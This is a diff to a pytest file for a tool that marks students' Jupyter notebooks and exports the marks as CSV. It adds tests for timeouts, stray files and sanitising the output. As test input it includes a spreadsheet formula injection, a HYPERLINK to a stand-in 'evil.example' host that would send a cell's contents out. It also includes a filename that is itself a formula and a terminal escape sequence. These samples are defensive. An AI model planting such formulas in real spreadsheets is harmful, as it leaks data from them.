@@ -3,6 +3,8 @@
 import csv
 import io
 import json
+import os
+import re
 import sys
 from pathlib import Path
 
@@ -13,6 +15,7 @@ from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
 from book.exercises.loop import MIXED
 from kit import marks
 from kit.student import student
+from tests.formulas import FORMULAS, computes
 
 EXERCISES = (
     "known",
@@ -109,17 +112,40 @@ MARKS = {
 }
 
 
-def test_an_answer_is_marked_by_our_own_check(chapter, hand_in, tmp_path):
-    assert marks.marks(chapter, hand_in, tmp_path) == MARKS
+def test_an_answer_is_marked_by_our_own_check(chapter, hand_in):
+    assert marks.marks(chapter, hand_in) == MARKS
 
 
-def test_endless_loop_is_interrupted(chapter, tmp_path):
-    notebook = student(chapter)
-    notebook.cells.insert(2, new_code_cell("while True:\n    pass"))
-    results = marks.marks(chapter, notebook, tmp_path, limit=5)
-    assert results.pop("why") == MARKS["why"]
-    assert results.pop("known") == "not right"  # None is no function
-    assert set(results.values()) == {"not answered"}
+@pytest.fixture
+def quick():
+    """A chapter of two exercises and a hand-in; nothing is imported, so no cell takes a second."""
+    cells = [new_markdown_cell("# Quick"), new_code_cell("", id="definition")]
+    for name in ("first", "second"):
+        cells += [
+            new_markdown_cell("**Exercise**", metadata={"exercise": name}),
+            new_code_cell(f"check({name!r}, 2)"),
+        ]
+    chapter = new_notebook(cells=cells)
+    return chapter, student(chapter)
+
+
+FOREVER = "from threading import Event\ndef check(name, expected):\n    if name == 'first': "
+
+
+def test_endless_check_is_interrupted_and_said(quick):
+    chapter, notebook = quick
+    notebook.cells[1].source = FOREVER + "Event().wait()"
+    results = marks.marks(chapter, notebook, cell_limit=5)
+    assert results == {"first": "ran longer than a minute", "second": "not right"}
+
+
+def test_a_cell_that_refuses_to_be_interrupted_ends_the_hand_in(quick):
+    chapter, notebook = quick
+    notebook.cells[1].source = (
+        FOREVER + "\n        while True:\n            try: Event().wait()\n            except: pass"
+    )
+    with pytest.raises(TimeoutError, match="ran longer than 10 s"):
+        marks.marks(chapter, notebook, cell_limit=2, limit=10)
 
 
 @pytest.fixture
@@ -129,8 +155,29 @@ def book(chapter, tmp_path, monkeypatch):
     monkeypatch.setattr(marks, "CHAPTERS", [tmp_path / "07_chapter.ipynb"])
 
 
+@pytest.fixture
+def table(monkeypatch):
+    """A function: the rows that `main` writes where text is ASCII, by the name of the file."""
+
+    def table(*arguments):
+        written = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
+        with monkeypatch.context() as patch:
+            patch.setattr(sys, "argv", ["kit.marks", *map(str, arguments)])
+            patch.setattr(sys, "stdout", written)
+            marks.main()
+        text = written.buffer.getvalue().decode()
+        assert text.startswith("\ufeff")  # or Excel takes it for something else than UTF-8
+        rows = {}
+        for row in csv.DictReader(io.StringIO(text[1:])):
+            assert tuple(row) == marks.COLUMNS
+            rows.setdefault(Path(row["file"]).name, []).append(row)
+        return rows
+
+    return table
+
+
 @pytest.mark.usefixtures("book")
-def test_every_file_gets_its_rows(hand_in, tmp_path, monkeypatch, capsys):
+def test_every_file_gets_its_rows(hand_in, tmp_path, table):
     """Renamed, from Windows, without ids, metadata or kernel; without a heading; cut; of none."""
     folder = tmp_path / "handed in, ü&b#c"
     folder.mkdir()
@@ -144,13 +191,7 @@ def test_every_file_gets_its_rows(hand_in, tmp_path, monkeypatch, capsys):
     (folder / "empty.ipynb").touch()
     nbformat.write(new_notebook(cells=[new_code_cell("1 / 0")]), folder / "7 a student.ipynb")
     nbformat.write(new_notebook(), folder / "notes.ipynb")
-    monkeypatch.setattr(sys, "argv", ["kit.marks", str(folder)])
-    marks.main()
-    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
-    assert tuple(table[0]) == marks.COLUMNS
-    rows = {}
-    for row in table:
-        rows.setdefault(Path(row["file"]).name, []).append(row)
+    rows = table(folder)
     bare_marks = MARKS | {"forged": "no cell checks it"}  # it has lost its metadata and source
     *found, total = rows.pop("a student.ipynb")
     assert {row["exercise"]: row["mark"] for row in found} == bare_marks
@@ -170,7 +211,70 @@ def test_every_file_gets_its_rows(hand_in, tmp_path, monkeypatch, capsys):
     assert rows.keys() == {"cut.ipynb", "empty.ipynb", "notes.ipynb"}
     assert all(row["mark"].startswith("cannot be marked (") for [row] in rows.values())
     assert "no chapter has its first heading" in rows["notes.ipynb"][0]["mark"]
-    for none in ([], [str(folder / "none")], [str(folder / "cut.ipynb")]):
-        monkeypatch.setattr(sys, "argv", ["kit.marks", *none])
+    for none in ("none", "cut.ipynb"):
         with pytest.raises(SystemExit, match=r"no notebooks under .* FOLDER"):
-            marks.main()
+            table(folder / none)
+
+
+@pytest.fixture
+def folder(book, hand_in, tmp_path):
+    """A folder of hand-ins that lie side by side, as Moodle's download has them; in it, one."""
+    folder = tmp_path / "handed in"
+    folder.mkdir()
+    nbformat.write(hand_in, folder / "right.ipynb")
+    return folder
+
+
+def test_a_file_beside_a_hand_in_changes_no_mark_and_is_named(folder, table, capsys):
+    others = {folder / f"{name}.py" for name in ("numpy", "vmc_lib", "json")}
+    for other in others:
+        other.write_text("raise ImportError('a student's')", encoding="utf-8")
+    writing = new_notebook(cells=[new_code_cell("open('numpy.py', 'w').write('no')")])
+    nbformat.write(writing, folder / "7 FIRST.IPYNB")
+    rows = table(folder)
+    assert rows.keys() == {"right.ipynb", "7 FIRST.IPYNB"}
+    *found, _total = rows["right.ipynb"]
+    assert {row["exercise"]: row["mark"] for row in found} == MARKS
+    named = re.findall("it is no notebook: (.*)", capsys.readouterr().err)
+    assert {*map(Path, named)} == others
+
+
+def test_several_run_at_once(tmp_path, table):
+    for name in ("7 a.ipynb", "7 b.ipynb"):
+        nbformat.write(new_notebook(cells=[new_code_cell("1 / 0")]), tmp_path / name)
+    one, other = table(tmp_path, "--jobs", 2).values()
+    assert [row["mark"] for row in one] == [row["mark"] for row in other]
+    assert one[0]["mark"] == "no cell checks it"
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_cell_of_the_table_is_a_formula(formula):
+    assert computes(formula)
+    assert not computes(marks.plain(formula))
+
+
+def test_a_students_error_is_text(folder, hand_in, table):
+    trap = """class Trap:
+    def __float__(self):
+        raise type('=HYPERLINK("http://evil.example/?"&A1,"see here")', (Exception,), {})("\\x1b")
+broken = Trap()"""
+    for cell in hand_in.cells:
+        if cell.source == "broken = unknown":
+            cell.source = trap
+    nbformat.write(hand_in, folder / "right.ipynb")
+    marks = {row["exercise"]: row["mark"] for row in table(folder)["right.ipynb"]}
+    assert marks["broken"].startswith("'=HYPERLINK(")
+    assert marks["broken"].endswith(r"\x1b")
+
+
+@pytest.mark.usefixtures("book")
+def test_whatever_its_name_a_file_gets_its_row(tmp_path, table, monkeypatch):
+    names = [b"=1+1", b"M\xfcller", "Müller 张".encode(), b"two\nlines", b"esc\x1b[2J", 245 * b"x"]
+    names = {os.fsdecode(name) for name in names}
+    (tmp_path / "in").mkdir()
+    monkeypatch.chdir(tmp_path / "in")
+    for name in names:
+        Path(f"{name}.ipynb").touch()
+    rows = table(".")
+    assert rows.keys() == {marks.plain(f"{name}.ipynb") for name in names}
+    assert all(row["mark"].startswith("cannot be marked (") for [row] in rows.values())
